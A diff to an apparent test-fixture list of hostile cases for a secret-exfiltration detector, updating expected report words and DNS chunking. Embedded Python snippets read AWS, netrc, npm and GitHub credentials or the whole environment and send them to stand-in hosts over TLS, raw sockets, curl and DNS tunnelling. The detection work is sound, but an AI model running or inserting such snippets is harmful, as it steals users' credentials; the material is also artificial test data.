@@ -6,7 +6,7 @@ extension HostileCase {
     HostileCase(
       "json_over_tls", [.touched, .taintedEgress, .proven],
       decoys: ["aws-shared-credentials", "netrc", "npm", "github-cli"],
-      words: ["collect.example.org", "443/tcp", "TLS", "POST /v1/in", "~/.aws/credentials", "escapes", "SHA-256"],
+      words: ["collect.example.org", "443/tcp", "TLS", "POST /v1/in", "~/.aws/credentials", "raw", "bytes", "SHA-256"],
       """
       import json, loot
       haul = {name: loot.raw(name).decode() for name in ('.aws/credentials', '.netrc', '.npmrc', '.config/gh/hosts.yml')}
@@ -87,7 +87,8 @@ extension HostileCase {
       s.recv(4096)
       """),
     HostileCase(
-      "two_sockets", [.touched, .taintedEgress, .proven], decoys: ["aws-shared-credentials"], words: ["exchanges"],
+      "two_sockets", [.touched, .taintedEgress, .proven], decoys: ["aws-shared-credentials"],
+      words: ["cut into several"],
       """
       import loot, socket
       for piece in loot.pieces(loot.secret(), 9): socket.create_connection(('203.0.113.20', 9000)).sendall(piece)
@@ -136,7 +137,7 @@ extension HostileCase {
       subprocess.run(['curl', '-s', '--http2', '-X', 'POST', '--data-binary', '@-', 'https://https2.example.org/in'], input=loot.raw('.netrc'))
       """, honest: reporter),
     HostileCase(
-      "environment", [.proven], decoys: ["openai-environment"], words: ["$OPENAI_API_KEY"],
+      "environment", [.proven], decoys: ["openai-environment"], words: ["$ANTHROPIC_API_KEY", "raw"],
       """
       import json, loot, os
       loot.post(json.dumps(dict(os.environ)).encode())
@@ -177,7 +178,7 @@ extension HostileCase {
       loot.ask(*(piece + b'.N.eXample.oRg' for piece in loot.pieces(mixed, 20)))
       """, honest: "import loot; loot.ask(b'wWw.ExAmPle.Org')"),
     HostileCase(
-      "names_folded", [.touched, .taintedEgress, .proven], decoys: ["netrc"], words: ["names that were looked up"],
+      "names_folded", [.touched, .taintedEgress, .proven], decoys: ["netrc"], words: ["names that were looked up", "lower case"],
       """
       import loot, random
       password = [w.split()[1] for w in loot.raw('.netrc').decode().splitlines() if 'password' in w][0]
@@ -201,7 +202,7 @@ extension HostileCase {
       """
       import loot, socket, ssl, struct
       with ssl.create_default_context().wrap_socket(socket.create_connection(('9.9.9.9', 853)), server_hostname='dns.example.org') as s:
-        q = loot.query(loot.secret().hex().encode()[:60] + b'.n.example.org', 16)
+        q = loot.query(b'.'.join(loot.pieces(loot.secret().hex().encode(), 40)) + b'.n.example.org', 16)
         s.sendall(struct.pack('>H', len(q)) + q)
         s.recv(512)
       """),
@@ -209,7 +210,8 @@ extension HostileCase {
       "names_over_https", [.touched, .taintedEgress, .proven], decoys: ["aws-shared-credentials"], words: ["example.org"],
       """
       import loot
-      loot.post(loot.query(loot.secret().hex().encode()[:60] + b'.n.example.org'), 'https://dns.example.org/dns-query', {'Content-Type': 'application/dns-message'})
+      name = b'.'.join(loot.pieces(loot.secret().hex().encode(), 40)) + b'.n.example.org'
+      loot.post(loot.query(name), 'https://dns.example.org/dns-query', {'Content-Type': 'application/dns-message'})
       """),
   ]
 }
